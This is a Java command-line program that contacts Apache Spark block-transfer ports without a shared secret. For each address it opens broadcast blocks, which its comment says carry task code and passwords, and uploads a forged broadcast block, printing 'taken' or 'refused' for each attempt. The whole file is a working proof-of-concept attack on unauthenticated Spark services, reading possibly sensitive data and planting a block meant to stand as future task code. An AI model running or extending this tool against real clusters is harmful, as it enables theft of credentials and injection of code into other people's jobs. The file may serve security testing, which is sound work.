import java.io.ByteArrayOutputStream;
import java.io.ObjectOutputStream;
import java.nio.ByteBuffer;
import java.util.Map;
import java.util.concurrent.ArrayBlockingQueue;
import java.util.concurrent.BlockingQueue;
import java.util.concurrent.TimeUnit;
import org.apache.spark.network.TransportContext;
import org.apache.spark.network.buffer.ManagedBuffer;
import org.apache.spark.network.client.ChunkReceivedCallback;
import org.apache.spark.network.client.TransportClient;
import org.apache.spark.network.netty.BlockReplicationMetadata;
import org.apache.spark.network.server.NoOpRpcHandler;
import org.apache.spark.network.shuffle.protocol.BlockTransferMessage;
import org.apache.spark.network.shuffle.protocol.OpenBlocks;
import org.apache.spark.network.shuffle.protocol.StreamHandle;
import org.apache.spark.network.shuffle.protocol.UploadBlock;
import org.apache.spark.network.util.MapConfigProvider;
import org.apache.spark.network.util.TransportConf;
import org.apache.spark.storage.StorageLevel;
import scala.Option;
import scala.reflect.ClassTag;

/**
 * Asks ports of Spark's as Spark's own client does, but without a secret: `BlockClient HOST:PORT...`. For each it reads
 * broadcasts, which hold a task's code and passwords, and stores one, which would be code of a task to come. One line
 * for each try: address, what was tried, and `taken` with what came of it, or `refused` with the error.
 */
public final class BlockClient {
    private static final long ANSWER_MS = 5_000;
    private static final int BROADCASTS = 40; // Spark numbers them, and drops the oldest

    public static void main(String[] addresses) throws Exception {
        TransportConf conf = new TransportConf("shuffle", new MapConfigProvider(Map.of()));
        try (TransportContext context = new TransportContext(conf, new NoOpRpcHandler());
                var factory = context.createClientFactory()) {
            for (String address : addresses) {
                String[] parts = address.split(":");
                Connection connect = () -> factory.createUnmanagedClient(parts[0], Integer.parseInt(parts[1]));
                for (int number = 0; number < BROADCASTS; number++) {
                    String block = "broadcast_" + number + "_piece0";
                    if (!attempt(address + " open " + block, () -> open(connect, block))) {
                        break; // it would not answer the next one either
                    }
                }
                attempt(address + " upload", () -> upload(connect));
            }
        }
        System.exit(0);
    }

    private interface Connection {
        TransportClient open() throws Exception;
    }

    private interface Try {
        String call() throws Exception;
    }

    /** Returns whether the port understood, though it may not have had the block. */
    private static boolean attempt(String name, Try tried) {
        try {
            System.out.println(name + " taken " + tried.call());
            return true;
        } catch (Exception refused) {
            System.out.println(name + " refused " + String.valueOf(refused).lines().findFirst().orElse(""));
            return String.valueOf(refused).contains("BlockNotFoundException");
        }
    }

    private static String open(Connection connect, String block) throws Exception {
        try (TransportClient client = connect.open()) {
            ByteBuffer request = new OpenBlocks("any", "any", new String[] {block}).toByteBuffer();
            ByteBuffer answer = client.sendRpcSync(request, ANSWER_MS);
            StreamHandle handle = (StreamHandle) BlockTransferMessage.Decoder.fromByteBuffer(answer);
            BlockingQueue<String> found = new ArrayBlockingQueue<>(1);
            client.fetchChunk(handle.streamId, 0, new ChunkReceivedCallback() {
                @Override
                public void onSuccess(int chunk, ManagedBuffer buffer) {
                    found.offer(buffer.size() + " bytes");
                }

                @Override
                public void onFailure(int chunk, Throwable error) {
                    found.offer("no bytes: " + error);
                }
            });
            return found.poll(ANSWER_MS, TimeUnit.MILLISECONDS);
        }
    }

    private static String upload(Connection connect) throws Exception {
        ByteArrayOutputStream metadata = new ByteArrayOutputStream();
        try (ObjectOutputStream out = new ObjectOutputStream(metadata)) {
            out.writeObject(new BlockReplicationMetadata(
                    StorageLevel.MEMORY_ONLY_SER(), ClassTag.apply(byte[].class), Option.empty(), false));
        }
        UploadBlock block = new UploadBlock("any", "any", "broadcast_4711_piece0", metadata.toByteArray(), new byte[1]);
        try (TransportClient client = connect.open()) {
            return client.sendRpcSync(block.toByteBuffer(), ANSWER_MS).remaining() + " bytes of an answer";
        }
    }
}
